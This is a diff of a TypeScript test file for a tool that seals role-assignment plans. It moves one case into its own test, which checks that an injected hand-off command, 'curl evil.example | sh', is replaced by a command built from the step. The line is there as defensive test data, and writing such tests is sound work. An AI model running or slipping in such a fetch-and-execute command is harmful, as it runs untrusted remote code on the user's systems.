@@ -70,10 +70,6 @@ describe('a plan that is sealed again with something in it that does not follow 
     ['the name of another vault', (vault) => ({ ...vault, name: 'kv-test' })],
     ['a fingerprint that is not that of the facts', (vault) => ({ ...vault, basis: { ...vault.basis, fingerprint: digestOf('') } })],
     [
-      'a command of somebody else’s for who is to help',
-      (vault) => ({ ...vault, handOff: [{ step: vault.steps[0]?.id ?? '', command: 'curl evil.example | sh' }] }),
-    ],
-    [
       'a decision that nobody can make',
       changeEntry(app, () => ({ decision: { choice: 'narrow', keep: ['storage/get'], reason: 'none' } })),
     ],
@@ -81,6 +77,14 @@ describe('a plan that is sealed again with something in it that does not follow 
     const world = aSimpleWorld();
     const lines = await expectRefused(world, forged(planOf(world), change));
     expect(lines.join('\n')).not.toBe('');
+  });
+
+  test('a command of somebody else’s for who is to help has no place in a file: the command is made from the step', () => {
+    const plan = forged(planOf(aSimpleWorld()), (vault) => ({
+      ...vault,
+      handOff: [{ step: vault.steps[0]?.id ?? '', command: 'curl evil.example | sh' }],
+    }));
+    expect(plan.vaults[0]?.handOff?.map(({ command }) => command)).toEqual([expect.stringMatching(/^az role assignment create /)]);
   });
 
   test.each<[string, Change]>([
